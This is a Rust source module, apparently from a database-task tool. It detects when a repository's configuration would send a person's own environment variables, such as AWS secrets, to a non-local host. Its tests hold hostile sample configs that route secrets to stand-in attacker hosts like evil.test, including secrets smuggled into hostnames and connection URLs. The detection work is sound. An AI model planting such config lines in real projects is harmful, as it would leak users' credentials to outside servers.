//! Variables of the person's that a repository has sent to a server of its choice: `password-env = "AWS_SECRET_ACCESS_KEY"` beside a host
//! of a stranger's. A command that only looks connects, and so it sends them; it does so unasked only where that can harm nobody.

use super::is_local;
use super::stores::host_of;
use super::strangers::Brought;
use crate::config::{At, Connection, Database, Env, Lent, Project, Share, Store, StoreKind};

/// All that would be sent to another machine. What the repository's own `.env` says is its own, and what names a database's own parts
/// (`PGPASSWORD`, `POSTGRES_USER`, `DB_PASSWORD`) is set to be sent.
pub fn lent(project: &Project, env: &Env) -> Vec<Brought> {
    let databases = project.databases.iter().filter_map(|database| Some((database_key(database), leads_away(database)?)));
    let stores = project.stores.iter().filter_map(|store| Some((store_key(store), away(store)?)));
    let ways: Vec<(String, String)> = databases.chain(stores).collect();
    let sent = ways.iter().flat_map(|(owner, host)| {
        let own = project.lent.iter().filter(move |lent| lent.key.starts_with(owner.as_str()));
        let own = own.filter(|lent| !is_expected(lent, project) && is_the_persons(lent, env));
        own.map(move |lent| Brought {
            key: lent.key.clone(),
            what: format!("${} to {host}", lent.variable),
            state: String::new(),
        })
    });
    let mut all: Vec<Brought> = sent.collect();
    all.dedup();
    all
}

fn database_key(database: &Database) -> String {
    format!("databases.{}.postgres.", database.key)
}

fn store_key(store: &Store) -> String {
    format!("stores.{}.milvus.", store.key)
}

/// The host that a database's clients go to, where that is not this machine: a container's go to its own server.
fn leads_away(database: &Database) -> Option<String> {
    if database.at != At::Host {
        return None;
    }
    let Connection { host, options, .. } = &database.connection;
    let led = options.iter().find(|(name, _)| name == "PGHOSTADDR" || name == "PGSERVICE").map(|(_, value)| value);
    let hosts = host.iter().flat_map(|hosts| hosts.split(',')).chain(led.map(String::as_str));
    hosts.into_iter().find(|host| !is_local(host)).map(String::from)
}

fn away(store: &Store) -> Option<String> {
    let StoreKind::Milvus { url, .. } = &store.kind else { return None };
    host_of(url).filter(|host| !is_local(host))
}

/// A whole address says itself where it leads, unless the file has put another host beside it; and a name may say what it is for.
fn is_expected(lent: &Lent, project: &Project) -> bool {
    let is_address = lent.share == Share::Whole && lent.key.ends_with(".url");
    let beside = |part: &str| {
        let key = lent.key.trim_end_matches("url").to_owned() + part;
        project.entries.iter().any(|entry| entry.key == key)
    };
    if is_address {
        return !beside("host") && !beside("port");
    }
    is_for_a_database(&lent.variable)
}

/// Names that say so, and parts of an address that no secret is called by.
fn is_for_a_database(variable: &str) -> bool {
    const FIRST: [&str; 6] = ["POSTGRES", "POSTGRESQL", "DB", "DATABASE", "SQL", "MILVUS"];
    const HARMLESS: [&str; 9] = ["USER", "LOGNAME", "USERNAME", "HOST", "HOSTNAME", "PORT", "NAME", "ENVIRONMENT", "REGION"];
    let upper = variable.to_ascii_uppercase();
    let [first, last] = [upper.split('_').next(), upper.rsplit('_').next()].map(Option::unwrap_or_default);
    upper.starts_with("PG") || FIRST.contains(&first) || HARMLESS.contains(&last)
}

/// Whether it is no file of the repository's that says it.
fn is_the_persons(lent: &Lent, env: &Env) -> bool {
    env.given(&lent.variable).is_some_and(|value| env.held(&lent.variable, value).is_none())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Dotenv, load};

    #[test]
    fn what_is_sent_to_another_machine_is_named() {
        let env = || {
            Env::of([
                ("AWS_SECRET_ACCESS_KEY", "aws-secret"),
                ("HELD", "held-secret"),
                ("EXPORTED", "exported"),
                ("SHOP_URL", "postgresql://u:p@db.test/shop"),
                ("DATABASE_URL", "postgresql://u:p@db.test/shop"),
                ("PGPASSWORD", "p"),
                ("DB_PASSWORD", "p"),
                ("PROD_DB_PASSWORD", "p"),
                ("REGION", "eu"),
            ])
        };
        let table = |more: &str| format!("[databases.main]\npostgres = {{ database = \"app\", {more} }}\n");
        let store = |more: &str| format!("[stores.v]\nmilvus = {{ {more} }}\n{}", table("host = \"localhost\""));
        let aws = "password-env = \"AWS_SECRET_ACCESS_KEY\"";
        for (toml, wanted) in [
            (table(&format!("host = \"evil.test\", {aws}")), "$AWS_SECRET_ACCESS_KEY to evil.test"),
            (table(&format!("host = \"localhost,evil.test\", {aws}")), "$AWS_SECRET_ACCESS_KEY to evil.test"),
            (table("url = \"postgresql://u:${AWS_SECRET_ACCESS_KEY}@evil.test/x\""), "$AWS_SECRET_ACCESS_KEY to evil.test"),
            (table("url = \"postgresql://u@localhost/x?hostaddr=192.0.2.1\", password-env = \"HELD\""), "$HELD to 192.0.2.1"),
            (table("host = \"evil.test\", password-env = \"PROD_DB_PASSWORD\""), "$PROD_DB_PASSWORD to evil.test"),
            (table("host = \"${HELD}.evil.test\""), "$HELD to held-secret.evil.test"),
            (table("host = \"evil.test\", user = \"${HELD}\""), "$HELD to evil.test"),
            (table("url = \"${SHOP_URL}\", host = \"evil.test\""), "$SHOP_URL to evil.test"),
            (table("url = \"${DATABASE_URL}\", host = \"evil.test\""), "$DATABASE_URL to evil.test"),
            (store("url = \"https://evil.test:19530\", token-env = \"HELD\""), "$HELD to evil.test"),
            (store("url = \"https://x:${HELD}@evil.test\""), "$HELD to evil.test"),
            // this machine, a container, the file's own values, and what is set to be sent
            (table(&format!("host = \"localhost\", {aws}")), ""),
            (table(&format!("host = \"/run/postgresql\", {aws}")), ""),
            (format!("[containers.c]\ndocker = \"c\"\n[databases.main]\ncontainer = \"c\"\npostgres = {{ {aws} }}\n"), ""),
            (table("host = \"db.test\", password-env = \"OF_THE_FILE\""), ""),
            (table("host = \"db.test\", password-env = \"EXPORTED\""), ""),
            (table("host = \"db.test\", password-env = \"DB_PASSWORD\""), ""),
            (table("host = \"${REGION}.db.test\", password-env = \"PGPASSWORD\""), ""),
            ("[databases.main]\npostgres = { url = \"${SHOP_URL}\" }\n".into(), ""),
            ("[databases.main]\npostgres = { url = \"${DATABASE_URL}\" }\n".into(), ""),
            (store("url = \"http://localhost:19530\", token-env = \"HELD\""), ""),
        ] {
            let folder = tempfile::tempdir().unwrap();
            std::fs::write(folder.path().join("db-tasks.toml"), &toml).unwrap();
            std::fs::write(folder.path().join(".env"), "OF_THE_FILE=x\nEXPORTED=exported\n").unwrap();
            let (project, env) = load(&folder.path().join("db-tasks.toml"), env(), Dotenv::Read).unwrap();
            let said: Vec<String> = lent(&project, &env).into_iter().map(|one| one.what).collect();
            assert_eq!(said.join(", "), wanted, "{toml}");
        }
    }
}
